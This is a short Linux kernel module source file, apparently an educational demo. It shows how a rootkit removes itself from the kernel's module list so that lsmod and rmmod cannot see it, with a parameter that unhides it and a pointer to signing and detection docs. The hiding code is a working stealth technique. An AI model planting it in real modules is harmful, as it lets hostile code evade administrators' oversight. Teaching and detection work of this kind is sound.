/* SPDX-License-Identifier: MIT */
/*
 * What a root kit does first: it takes itself off the list of modules. lsmod,
 * /proc/modules and rmmod know it no more; its code stays, with all rights.
 * docs/signing.md tells what stops it, and what finds it.
 *
 * Try: insmod hide.ko; lsmod; hidden-modules; then
 *      echo N > /sys/module/hide/parameters/hidden; rmmod hide
 *
 * It can't be unloaded while it hides.
 */
#include <linux/init.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/moduleparam.h>

static struct list_head *before; /* its place, while it is hidden */

static void hide(void)
{
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
}

static void show(void)
{
	list_add(&THIS_MODULE->list, before);
	before = NULL;
}

static int set_hidden(const char *val, const struct kernel_param *kp)
{
	bool hidden;
	int err = kstrtobool(val, &hidden);

	if (!err && hidden && !before)
		hide();
	if (!err && !hidden && before)
		show();
	return err;
}

static int get_hidden(char *buffer, const struct kernel_param *kp)
{
	return sprintf(buffer, "%c\n", before ? 'Y' : 'N');
}

static const struct kernel_param_ops hidden_ops = {
	.set = set_hidden,
	.get = get_hidden,
};
module_param_cb(hidden, &hidden_ops, NULL, 0644);
MODULE_PARM_DESC(hidden, "Whether the list of modules leaves it out");

static int __init hide_init(void)
{
	if (!before)
		hide();
	return 0;
}

static void __exit hide_exit(void)
{
}

module_init(hide_init);
module_exit(hide_exit);

MODULE_LICENSE("GPL");
MODULE_AUTHOR("The Mortise authors");
MODULE_DESCRIPTION("Hides itself from the list of modules");
